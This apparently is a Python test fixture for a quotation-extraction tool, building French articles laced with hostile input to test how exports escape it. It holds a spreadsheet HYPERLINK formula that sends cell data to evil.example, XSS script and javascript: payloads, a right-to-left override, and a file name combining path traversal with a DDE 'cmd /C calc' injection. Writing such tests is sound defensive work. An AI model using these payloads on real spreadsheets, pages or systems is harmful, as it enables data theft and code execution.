"""Articles as an enemy would write them, with quotations and claims over them: for exports and the report."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING

from claimx.records import Claim, Document, Quotation, Segment, Speaker
from claimx.store import TableWriter

if TYPE_CHECKING:
    from pathlib import Path

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
SCRIPT = "<script>window.pwned=1</script><img src=x onerror=window.pwned=1>"
LINK = '<a href="data:text/html,<script>alert(1)</script>">lien</a> javascript:alert(1)'
RTL = "abc\u202edcba\u202c fin"
ASTRAL = "🦊🦊"
CONTROL = "cloche\x07 ici"

TEXT = (
    f"{FORMULA}\r\n"
    f"{ASTRAL} « Le port fermera {SCRIPT} », a dit Marie Dupont.\r\n"
    f"« La ville {LINK} paiera », a dit la maire {RTL}, « et nous dirons que l'État refuse ».\r\n"
    f"- Selon la préfecture, {CONTROL} rien ne change.\r\n"
)
OTHER = "Aucune citation ici."


def span(part: str, text: str = TEXT) -> tuple[int, int]:
    """Return where ``part`` stands in ``text``."""
    start = text.index(part)
    return start, start + len(part)


def _mention(name: str, part: str | None) -> dict[str, object]:
    if part is None:
        return {}
    start, end = span(part)
    return {f"{name}_text": part, f"{name}_start": start, f"{name}_end": end}


def quotation(
    name: str, kind: str, parts: list[str], speakers: list[Speaker], cue: str | None, source: str | None, **more: object
) -> Quotation:
    """Return a quotation of ``TEXT`` whose segments, cue and source are these words."""
    segments = tuple(Segment(start=span(part)[0], end=span(part)[1]) for part in parts)
    start, end = segments[0].start, segments[-1].end
    fields = {"text": TEXT[start:end], "rule": "postposed_clause", "confidence": 0.9, "resolution": "full_name"} | more
    fields |= _mention("cue", cue) | _mention("source", source)
    return Quotation(
        quotation_id=name, kind=kind, start=start, end=end, segments=segments, speakers=tuple(speakers), **fields
    )


def claim(name: str, of: str, part: str, claimant: str | None, polarity: str, **more: object) -> Claim:
    """Return a claim of ``TEXT`` over these words."""
    start, end = span(part)
    fields = {
        "act": "state",
        "label_en": f"state {polarity}",
        "label_fr": f"affirmation {polarity}",
        "rule": "claim.topic",
    }
    fields |= {"claim_id": name, "quotation_id": of, "claimant_name": claimant, "polarity": polarity, "confidence": 0.7}
    return Claim(text=part, start=start, end=end, **fields | more)


DUPONT = Speaker(name="Marie Dupont", id="marie-dupont", kind="person")
STATE = Speaker(name="État", id="france", kind="state")
MAYOR = Speaker(name=RTL, kind="unknown")

FIRST = f"Le port fermera {SCRIPT}"
SECOND = f"La ville {LINK} paiera"
THIRD = "et nous dirons que l'État refuse"
QUOTATIONS = (
    quotation("q01", "direct", [FIRST], [DUPONT], "a dit", "Marie Dupont"),
    quotation("q02", "direct", [SECOND, THIRD], [MAYOR, DUPONT], None, f"la maire {RTL}", confidence=0.4),
    quotation("q03", "indirect", ["refuse"], [STATE], None, "l'État", within="q02"),
    quotation("q04", "mixed", [f"{CONTROL} rien ne change"], [], "Selon", "la préfecture", resolution="unresolved"),
)
CLAIMS = (
    claim("c01", "q01", FIRST, "Marie Dupont", "negative", issue_id="port_closing", issue_label_fr="fermeture du port",
          issue_label_en="closing of the port", issue_text="Le port", issue_start=span("Le port")[0],
          issue_end=span("Le port")[1], speaker_name="Marie Dupont", claimant_id="marie-dupont", date="2021-12-03"),
    claim("c02", "q02", SECOND, RTL, "positive", issue_text=FORMULA[:20], issue_start=0, issue_end=20,
          speaker_name=f"{RTL}, Marie Dupont"),
    claim("c03", "q02", SECOND, "Marie Dupont", "positive", issue_id="port_closing", issue_label_fr="fermeture du port",
          issue_label_en="closing of the port", speaker_name=f"{RTL}, Marie Dupont"),
    claim("c04", "q03", "refuse", "État", "neutral", issue_text="refuse", issue_start=span("refuse")[0],
          issue_end=span("refuse")[1], via=("Marie Dupont",), speaker_name="État", negated=True),
    claim("c05", "q04", f"{CONTROL} rien ne change", None, "positive"),
)  # fmt: skip


def documents() -> list[tuple[Document, tuple[Quotation, ...], tuple[Claim, ...]]]:
    """Return an article of ``TEXT``, one with nothing in it, and one that couldn't be read."""
    counts = {"n_paragraphs": 4, "n_sentences": 4, "n_quotations": len(QUOTATIONS), "n_claims": len(CLAIMS)}
    sha256 = hashlib.sha256(TEXT.encode()).hexdigest()
    hostile = Document(
        document_id="../=cmd|' /C calc'!A0.txt",
        path="x",
        sha256=sha256,
        text=TEXT,
        title=FORMULA,
        date="2021-12",
        **counts,
    )
    empty = Document(document_id="b/vide.txt", text=OTHER, n_paragraphs=1, n_sentences=1)
    failed = Document(document_id="c.txt", path="c.txt", status="failed", error="binary")
    return [(hostile, QUOTATIONS, CLAIMS), (empty, (), ()), (failed, (), ())]


def write(folder: Path) -> Path:
    """Write these documents as ``claimx extract`` would and return the folder."""
    with TableWriter(folder, "sha256:test") as writer:
        for document, quotations, claims in documents():
            writer.write(document, quotations, claims)
    return folder
